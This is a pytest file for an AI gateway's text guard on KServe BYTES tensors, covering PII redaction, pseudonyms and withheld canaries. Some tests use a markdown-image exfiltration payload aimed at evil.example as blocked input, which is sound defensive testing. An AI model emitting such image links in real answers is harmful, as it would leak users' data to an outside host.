"""The guard on KServe v2 BYTES tensors over real HTTP, against real sandboxed ONNX string models.

``shout`` appends "!" to every element (StringConcat), so an answer shows what the worker was given;
``echo`` returns its input unchanged (Identity), so an answer can carry a canary split over two
elements. Inputs: redacted before the worker, blocked with a fixed phrase, pseudonyms there and
back, non-UTF-8 elements refused; outputs: PII redacted, canaries withheld (also split across
elements); numeric tensors of a guarded model untouched; nothing of the texts in the audit rows.
"""

from __future__ import annotations

import json
import re
import sqlite3
import struct
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from onnx import TensorProto, helper

from airlock.errors import UsageError
from airlock.gateway import Gateway, create_key, load_config, open_store
from airlock.gateway._text_guard import INPUT_REFUSED, OUTPUT_REFUSED
from tests.gateway import _models
from tests.gateway.conftest import Running, write_config
from tests.gateway.test_bytes_e2e import _shout

pytestmark = pytest.mark.xdist_group("bytes-guard")

CANARY = "zq-7f3a-canary-51"
EMAIL = "bob.smith@example.com"
MODELS = f"""
[models.shout]
path = "shout.onnx"
runtime = "onnx"
tenants = ["acme"]
inputs = [{{ name = "x", datatype = "BYTES", shape = [-1] }}]
[models.shout.guard.input]
images = "block"
pii = "redact"

[models.pseudo]
path = "shout.onnx"
runtime = "onnx"
tenants = ["acme"]
inputs = [{{ name = "x", datatype = "BYTES", shape = [-1] }}]
[models.pseudo.guard.input]
pii = "redact"
pseudonymize = true

[models.echo]
path = "echo.onnx"
runtime = "onnx"
tenants = ["acme"]
inputs = [{{ name = "x", datatype = "BYTES", shape = [-1] }}]
[models.echo.guard.output]
pii = "redact"
canaries = ["{CANARY}"]

[models.open]
path = "echo.onnx"
runtime = "onnx"
tenants = ["acme"]
inputs = [{{ name = "x", datatype = "BYTES", shape = [-1] }}]
"""


def _echo(path: Path) -> Path:
    graph = helper.make_graph(
        [helper.make_node("Identity", ["x"], ["y"])],
        "echo",
        [helper.make_tensor_value_info("x", TensorProto.STRING, [None])],
        [helper.make_tensor_value_info("y", TensorProto.STRING, [None])],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 20)])
    model.ir_version = 9
    path.write_bytes(model.SerializeToString())
    return path


class _Served:
    def __init__(self, folder: Path, running: Running, client: httpx.Client) -> None:
        self.folder, self.running, self.client = folder, running, client

    def call(self, model: str, items: list[str]) -> httpx.Response:
        body = {"inputs": [{"name": "x", "datatype": "BYTES", "shape": [len(items)], "data": items}]}
        return self.client.post(f"/v2/models/{model}/infer", json=body)

    def row(self, reply: httpx.Response) -> tuple[str, dict[str, Any]]:
        """The outcome row of a call (decision, guard decisions); rows are group-committed: waited for."""
        request_id = reply.headers["x-request-id"]
        until = time.monotonic() + 30
        while True:
            with sqlite3.connect(self.folder / "state.db") as db:
                rows = db.execute(
                    "SELECT decision, guard FROM audit WHERE request_id = ? ORDER BY seq", (request_id,)
                ).fetchall()
            if (rows and rows[-1][0] != "started") or time.monotonic() > until:
                break
            time.sleep(0.05)
        decision, guard = rows[-1]
        return decision, json.loads(guard) if guard else {}

    def stored(self) -> bytes:
        return b"".join(p.read_bytes() for p in self.folder.glob("state.db*") if p.is_file())


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[_Served]:
    folder = tmp_path_factory.mktemp("bytes-guard")
    _shout(folder / "shout.onnx")
    _echo(folder / "echo.onnx")
    config = load_config(
        write_config(folder, MODELS, server="request_timeout_seconds = 20.0\nmax_body_bytes = 1048576")
    )
    store = open_store(config)
    store.add_tenant("acme", None)
    _, token = create_key(store, "acme")
    store.close()
    running = Running(Gateway(config))
    try:
        url = f"http://127.0.0.1:{running.gateway.port}"
        with httpx.Client(base_url=url, headers={"Authorization": f"Bearer {token}"}, timeout=60) as http:
            yield _Served(folder, running, http)
    finally:
        running.stop()


def _out(reply: httpx.Response) -> list[str]:
    assert reply.status_code == 200, reply.text
    data: list[str] = reply.json()["outputs"][0]["data"]
    return data


def test_an_unguarded_model_gives_the_text_to_the_worker_as_sent(served: _Served) -> None:
    # the baseline the guarded calls below differ from
    assert _out(served.call("open", [f"mail {EMAIL}", "hi"])) == [f"mail {EMAIL}", "hi"]


def test_redacted_elements_are_what_the_worker_gets(served: _Served) -> None:
    reply = served.call("shout", [f"mail {EMAIL}", "plain"])
    assert _out(reply) == ["mail <EMAIL_ADDRESS>!", "plain!"]
    decision, guard = served.row(reply)
    assert decision == "allowed"
    assert guard["input"]["decision"] == "redacted" and set(guard) == {"input"}
    assert EMAIL.encode() not in served.stored()


def test_a_blocked_element_refuses_the_request_with_a_fixed_phrase(served: _Served) -> None:
    reply = served.call("shout", ["fine", "![x](https://evil.example/?q=secret)"])
    assert reply.status_code == 400
    assert reply.json() == {"error": INPUT_REFUSED}
    decision, guard = served.row(reply)
    assert decision == "denied:guard-input"
    assert guard == {"input": {"decision": "blocked", "rules": {"filter.exfil-image": 1}}}
    assert "evil" not in reply.text and b"evil.example" not in served.stored()


def test_pseudonyms_go_to_the_worker_and_come_back(served: _Served) -> None:
    # the worker sees <EMAIL_ADDRESS_1> (its "!" proves it ran on that), the caller gets the address back
    assert _out(served.call("pseudo", [f"to {EMAIL}", f"cc {EMAIL}"])) == [f"to {EMAIL}!", f"cc {EMAIL}!"]


def test_an_element_that_is_not_utf8_is_refused_by_the_guard(served: _Served) -> None:
    items = [b"ok", b"\xff\xfe bad"]
    raw = b"".join(struct.pack("<I", len(i)) + i for i in items)
    header = json.dumps(
        {
            "inputs": [
                {"name": "x", "datatype": "BYTES", "shape": [2], "parameters": {"binary_data_size": len(raw)}}
            ]
        }
    ).encode()
    reply = served.client.post(
        "/v2/models/shout/infer",
        content=header + raw,
        headers={
            "Inference-Header-Content-Length": str(len(header)),
            "Content-Type": "application/octet-stream",
        },
    )
    assert reply.status_code == 400 and reply.json() == {"error": INPUT_REFUSED}
    decision, guard = served.row(reply)
    assert decision == "denied:guard-input"
    assert guard == {"input": {"decision": "blocked", "rules": {"size.utf8": 1}}}


def test_pii_in_an_output_element_is_redacted(served: _Served) -> None:
    assert _out(served.call("echo", [f"write to {EMAIL}", "x"])) == ["write to <EMAIL_ADDRESS>", "x"]


@pytest.mark.parametrize(
    "items",
    [
        [f"the key is {CANARY}"],
        [f"the key is {CANARY.upper().replace('-', '- ')}"],  # case and white space
        ["the key is zq-7f3a-", "canary-51 ok"],  # split over two elements
        # markup and an entity split over elements: whole only once the elements are joined
        ["the key is zq-7f3a<b", ">canary-51"],
        ["the key is zq-7f3a&#4", "5;canary-51"],
    ],
)
def test_a_canary_in_the_outputs_is_withheld(served: _Served, items: list[str]) -> None:
    reply = served.call("echo", items)
    assert reply.status_code == 502 and reply.json() == {"error": OUTPUT_REFUSED}
    assert "canary" not in reply.text
    decision, guard = served.row(reply)
    assert decision == "denied:guard-output"
    assert guard == {"output": {"decision": "blocked", "rules": {"canary.leak": 1}}}
    # the canary's head, in any case and spacing the items use: a bare "7f3a" also turns up in the
    # random hex of request ids and MACs in the store (CI drew one, then every later case failed)
    assert re.search(rb"(?i)zq\W{0,3}7f3a", served.stored()) is None


#: a canary is its letters and digits: "zq-7f3a-canary51" is the canary (punctuation does not hide
#: it), a changed digit is not
@pytest.mark.parametrize("items", [["zq-7f3a-canary-5", "2"], ["zq-7f3a-canary-52"], ["zq-7f3a-canary-5"]])
def test_a_canary_near_miss_passes(served: _Served, items: list[str]) -> None:
    assert _out(served.call("echo", items)) == items


def test_a_guard_on_a_model_without_bytes_inputs_stops_the_start(tmp_path: Path) -> None:
    _models.affine(tmp_path / "affine.onnx")
    extra = '[models.affine]\npath = "affine.onnx"\nruntime = "onnx"\ntenants = ["acme"]\n[models.affine.guard.input]\npii = "block"\n'
    config = load_config(write_config(tmp_path, extra))
    store = open_store(config)
    store.add_tenant("acme", None)
    store.close()
    with pytest.raises(UsageError, match=r"models\.affine\.guard: .* declares no BYTES input"):
        Running(Gateway(config))


def _slowest_health_check(
    served: _Served, call: Callable[[], httpx.Response]
) -> tuple[httpx.Response, float]:
    """``call()``'s reply, and the slowest health check answered while it ran."""
    result: dict[str, httpx.Response] = {}
    worker = threading.Thread(target=lambda: result.setdefault("reply", call()))
    worker.start()
    slowest = 0.0
    while worker.is_alive():
        started = time.monotonic()
        assert served.client.get("/v2/health/live").status_code == 200
        slowest = max(slowest, time.monotonic() - started)
        time.sleep(0.02)
    worker.join()
    return result["reply"], slowest


def test_many_tiny_elements_do_not_hold_the_event_loop(served: _Served) -> None:
    """Guard work is mostly a fixed cost per text (~40 us for an empty one): 150,000 empty elements
    with no characters to speak of are seconds of checks. They must go to the tenant's codec
    process, not run on the event loop: a health check answers promptly meanwhile."""
    items = [""] * 150_000 + ["see ![x](https://evil.example/a.png)"]  # blocked after all the rest
    reply, slowest = _slowest_health_check(served, lambda: served.call("shout", items))
    assert reply.status_code == 400 and reply.json()["error"] == INPUT_REFUSED
    # on the loop these checks block every other request for seconds (~4 s unloaded)
    assert slowest < 1.0, f"the event loop was held for {slowest:.2f} s"


def test_many_distinct_values_do_not_make_restoring_pseudonyms_quadratic(served: _Served) -> None:
    """3,000 elements with 3,000 distinct addresses: 3,000 pseudonyms, restored in 3,000 answer
    elements. Restoring matched every pseudonym as an alternative, rebuilt for each element on the
    event loop (~15 s of N^2 work); it is one pass per element now, where the rest of the elements'
    work runs."""
    items = [f"to u{i}@example.com" for i in range(3000)]
    reply, slowest = _slowest_health_check(served, lambda: served.call("pseudo", items))
    assert _out(reply) == [f"{item}!" for item in items]  # each caller's own value back in place
    assert slowest < 1.0, f"the event loop was held for {slowest:.2f} s"
